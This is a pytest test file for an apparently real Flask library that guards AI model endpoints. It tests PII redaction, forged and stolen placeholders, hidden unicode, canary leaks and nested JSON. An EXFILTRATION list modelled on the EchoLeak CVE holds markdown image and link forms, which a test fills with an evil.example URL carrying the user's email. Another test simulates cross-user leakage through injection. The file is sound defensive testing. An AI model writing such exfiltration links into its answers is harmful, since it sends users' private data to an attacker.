"""AI endpoints under attack: forged and stolen placeholders, personal data in odd places, hidden text, exfiltration."""

from __future__ import annotations

import json
import re
from pathlib import Path
from typing import Any

import pytest

from flask_rampart import ai

from .asking import Asked, asking, call_of, pieces, saying, text_of

INPUT = [ai.clean(), ai.pii(["EMAIL_ADDRESS"])]
OUTPUT = [ai.clean(), ai.restore(), ai.links(allow=["docs.example"])]
PLACEHOLDER = re.compile(r"<\w+_1_EMAIL_ADDRESS>")


def said(answer: Any) -> str:
    content: str = answer.json["choices"][0]["message"]["content"]
    return content


@pytest.mark.parametrize(
    "forged", ["<aaaaaa_1_EMAIL_ADDRESS>", "abcdef_1_EMAIL_ADDRESS>", "<EMAIL_ADDRESS>", "[REDACTED:EMAIL_ADDRESS]"]
)
def test_a_placeholder_that_a_user_made_up_means_nothing(forged: str) -> None:
    asked = Asked(lambda p: saying("So: " + p["messages"][0]["content"]), input=INPUT, output=OUTPUT)
    assert said(asked.ask(f"{forged} and ada@example.com")) == f"So: {forged} and ada@example.com"


def test_anothers_placeholder_means_nothing() -> None:
    stolen: list[str] = []

    def view(prompt: dict[str, Any]) -> Any:
        found = PLACEHOLDER.findall(prompt["messages"][0]["content"])
        stolen.extend(found)
        return saying(f"I heard {stolen[0]}")

    asked = Asked(view, input=INPUT, output=OUTPUT)
    assert said(asked.post(asking("victim@example.com"), who="ada")) == "I heard victim@example.com"
    # The thief's model writes what the victim's has seen, by an injection or a cache.
    assert "victim@example.com" not in said(asked.post(asking("thief@example.com"), who="mallory"))
    # Nor does it mean anything to the victim's next request.
    assert "victim@example.com" not in said(asked.post(asking("victim@example.com"), who="ada"))


def test_each_request_has_placeholders_of_its_own() -> None:
    asked = Asked(lambda p: saying("ok"), input=INPUT, output=OUTPUT)
    for _ in range(5):
        asked.ask("ada@example.com, ada@example.com")
    seen = [PLACEHOLDER.findall(p["messages"][0]["content"]) for p in asked.prompts]
    assert len({found[0] for found in seen}) == 5
    assert all(first == second for first, second in seen)


@pytest.mark.parametrize(
    "more",
    [
        {"user": "ada@example.com"},
        {"safety_identifier": "ada@example.com"},
        {"metadata": {"from": "ada@example.com"}},
        {"metadata": {"ada@example.com": "from"}},
        {"stop": ["ada@example.com"]},
        {"prediction": {"type": "content", "content": "mail ada@example.com"}},
        {"response_format": {"type": "json_schema", "json_schema": {"description": "ada@example.com"}}},
        {"tools": [{"type": "function", "function": {"name": "weather", "description": "for ada@example.com"}}]},
        {"tools": [{"type": "function", "function": {"name": "weather", "parameters": {"enum": ["ada@example.com"]}}}]},
    ],
    ids=range(9),
)
def test_personal_data_is_found_wherever_a_prompt_has_room_for_it(more: dict[str, Any]) -> None:
    asked = Asked(lambda p: saying("ok"), input=[*INPUT, ai.tools(allow=["weather"])], output=OUTPUT)
    assert asked.ask("hi", **more).status_code == 200
    assert "ada@example.com" not in json.dumps(asked.prompts)
    assert asked.last["findings"]["pii.EMAIL_ADDRESS"] >= 1


@pytest.mark.parametrize(
    "message",
    [
        {"role": "user", "name": "ada@example.com", "content": "hi"},
        {"role": "user", "content": [{"type": "text", "text": "I am ada@example.com"}]},
        {"role": "assistant", "content": None, "refusal": "not for ada@example.com"},
        {"role": "assistant", "content": None, "tool_calls": [call_of("x", '{"to": "ada@example.com"}')]},
        {"role": "assistant", "content": None, "tool_calls": [call_of("x", r'{"\u0061da@example.com": 1}')]},
        {"role": "assistant", "content": None, "function_call": {"name": "x", "arguments": r'["a"]'}},
        {"role": "tool", "tool_call_id": "c", "content": r'{"from": "\u0061da\u0040example.com"}'},
        {"role": "tool", "tool_call_id": "c", "content": r'[["a\u0064a@example.com"]]'},
        {"role": "user", "content": "ada\u200b@example.com"},
        {"role": "user", "content": "ada@exa\U000e0061mple.com"},
        {"role": "developer", "content": "ada@example.com"},
    ],
    ids=range(11),
)
def test_personal_data_is_found_in_every_kind_of_message(message: dict[str, Any]) -> None:
    asked = Asked(lambda p: saying("ok"), input=INPUT, output=OUTPUT)
    asked.post({"model": "small", "messages": [message, {"role": "user", "content": "hi"}]})
    seen = json.dumps(asked.prompts)
    assert "example.com" not in seen and "\\u0040" not in seen


def test_escapes_in_the_body_itself_hide_nothing() -> None:
    asked = Asked(lambda p: saying("ok"), input=INPUT, output=OUTPUT)
    data = rb'{"model": "small", "messages": [{"role": "user", "content": "\u0061\u0064\u0061@example.com"}]}'
    asked.app.test_client().post("/", data=data, content_type="application/json", headers={"X-Who": "ada"})
    assert asked.prompts and "example.com" not in json.dumps(asked.prompts)


def test_two_names_that_would_become_one_are_refused() -> None:
    asked = Asked(lambda p: saying("ok"), input=[ai.pii(["EMAIL_ADDRESS"], restore=False)])
    answer = asked.ask("hi", metadata={"ada@example.com": 1, "bob@example.com": 2})
    assert answer.json["code"] == "ai.shape"


# CVE-2025-32711 (EchoLeak) and its kin: an answer that a browser fetches carries data away.
EXFILTRATION = [
    "![a]({url})",
    "![a][1]\n\n[1]: {url}",
    "![a]\n\n[a]: {url} 'title'",
    "[![a]({url})](https://docs.example/)",
    '<img src="{url}">',
    "<img src={url} >",
    "![a](<{url}>)",
    "[click]({url})",
    "{url}",
    "<{url}>",
]


@pytest.mark.parametrize("form", EXFILTRATION, ids=range(len(EXFILTRATION)))
@pytest.mark.parametrize("stream", [False, True], ids=["whole", "streamed"])
def test_a_link_that_the_model_writes_carries_nothing_away(form: str, stream: bool) -> None:
    def view(prompt: dict[str, Any]) -> Any:
        url = "https://evil.example/p.png?q=" + prompt["messages"][0]["content"]
        text = "Sure. " + form.replace("{url}", url) + " Done."
        return ai.stream(pieces(text, 2)) if stream else saying(text)

    asked = Asked(view, input=INPUT, output=OUTPUT)
    answer = asked.ask("ada@example.com", stream=stream)
    text = text_of(answer) if stream else said(answer)
    assert "ada@example.com" not in text and "https://evil.example" not in text
    assert text.startswith("Sure.")


def test_nothing_is_put_back_into_a_link_that_is_allowed() -> None:
    view = lambda p: saying("see https://docs.example/?q=" + p["messages"][0]["content"] + " ok")  # noqa: E731
    asked = Asked(view, input=INPUT, output=OUTPUT)
    text = said(asked.ask("ada@example.com"))
    assert "ada@example.com" not in text and "https://docs.example/" in text


def test_a_prompt_without_end_or_bottom_is_refused() -> None:
    asked = Asked(lambda p: saying("ok"))
    deep = {
        "model": "small",
        "messages": [{"role": "user", "content": "x"}],
        "metadata": {"a": json.loads("[" * 200 + "]" * 200)},
    }
    assert asked.post(deep).json["code"] == "json.too_deep"
    nested = '{"a":' * 500 + "1" + "}" * 500
    calls = [{"role": "assistant", "tool_calls": [call_of("x", nested)]}]
    assert asked.post({"model": "small", "messages": calls}).json["code"] == "ai.shape"
    # A text that only looks like JSON is a text.
    assert asked.ask("[" * 5000).status_code == 200


def test_one_request_is_one_call() -> None:
    asked = Asked(lambda p: inner())

    @asked.app.post("/inner")
    @ai.guard(model="small")
    def inner() -> Any:
        return saying("a second answer")

    answer = asked.ask()
    assert answer.status_code == 500 and "second" not in answer.get_data(as_text=True)


def test_what_a_receiver_of_the_signal_raises_changes_nothing() -> None:
    asked = Asked(lambda p: saying("ok"))

    def failing(sender: Any, **facts: Any) -> None:
        raise RuntimeError

    with ai.called.connected_to(failing, asked.app):
        assert asked.ask().status_code == 200
    assert len(asked.told) == 1


def test_a_canary_is_found_in_a_calls_arguments_too() -> None:
    canary = "CANARY4f1d9c2ab7e0"
    answer = saying("", reason="tool_calls", tool_calls=[call_of("mail", json.dumps({"body": f"it is {canary}"}))])
    asked = Asked(lambda p: answer, output=[ai.leak(canary=canary), ai.tools(allow=["mail"])])
    response = asked.ask()
    assert response.json["choices"][0]["finish_reason"] == "content_filter"
    assert canary not in response.get_data(as_text=True)


@pytest.mark.parametrize("mode", ["replace", "report"])
def test_what_findings_do_is_said_for_each_step(mode: Any) -> None:
    asked = Asked(
        lambda p: saying("bob@example.com \u202e"), output=[ai.clean(on_finding=mode), ai.redact(on_finding=mode)]
    )
    text = said(asked.ask())
    assert text == ("bob@example.com \u202e" if mode == "report" else "[REDACTED:EMAIL_ADDRESS] ")
    assert asked.last["findings"]["redact.EMAIL_ADDRESS"] == 1 and asked.last["decision"] == "answered"
    streamed = Asked(
        lambda p: ai.stream(pieces("bob@example.com \u202e", 1)),
        output=[ai.clean(on_finding=mode), ai.redact(on_finding=mode)],
    )
    assert text_of(streamed.ask(stream=True)) == text


def test_a_finding_that_refuses_ends_the_answer() -> None:
    asked = Asked(lambda p: saying("mail bob@example.com"), output=[ai.redact(on_finding="refuse")])
    choice = asked.ask().json["choices"][0]
    assert (choice["finish_reason"], choice["message"]["content"]) == ("content_filter", None)
    assert asked.last["rule"] == "redact.EMAIL_ADDRESS"


@pytest.mark.parametrize("stream", [False, True], ids=["whole", "streamed"])
def test_a_prompt_that_cannot_be_had_to_compare_with_lets_nothing_pass(stream: bool) -> None:
    def forgotten() -> str:
        raise KeyError("secret prompt")

    asked = Asked(
        lambda p: ai.stream(pieces("a secret")) if stream else saying("a secret"), output=[ai.leak(prompt=forgotten)]
    )
    data = asked.ask(stream=stream).get_data(as_text=True)
    assert "a secret" not in data and "secret prompt" not in data
    assert asked.last["decision"] == "failed"


def test_a_count_that_fails_in_the_middle_ends_the_answer() -> None:
    counted: list[str] = []

    def count(text: str) -> int:
        counted.append(text)
        if len(counted) > 3:
            raise ValueError(text)
        return 1

    asked = Asked(lambda p: ai.stream(pieces("abcdefghijkl")), budget=ai.budget("100000/minute"), tokens=count)
    answer = asked.ask(stream=True)
    assert text_of(answer) == "abcdef" and '"error"' in answer.get_data(as_text=True)


def test_the_guides_examples_run() -> None:
    page = (Path(__file__).parent.parent / "docs" / "ai.md").read_text()
    blocks = re.findall(r"```python\n(.*?)```", page, re.S)
    assert len(blocks) == 6
    exec(compile("\n".join(blocks), "docs/ai.md", "exec"), {"__name__": "ai_page"})


def test_the_guide_names_every_step_and_every_row() -> None:
    docs = Path(__file__).parent.parent / "docs"
    guide, rows = (docs / "ai.md").read_text(), (docs / "owasp-llm.md").read_text()
    steps = [step.name for step in _all(ai.Step) if step.name]
    assert len(steps) == 14 and all(f"`{name}(" in guide for name in steps)
    assert re.findall(r"\*\*(LLM\d\d) ", rows) == [f"LLM{number:02}" for number in range(1, 11)]


def _all(kind: type[Any]) -> list[type[Any]]:
    return [*(found for one in kind.__subclasses__() for found in (one, *_all(one)))]
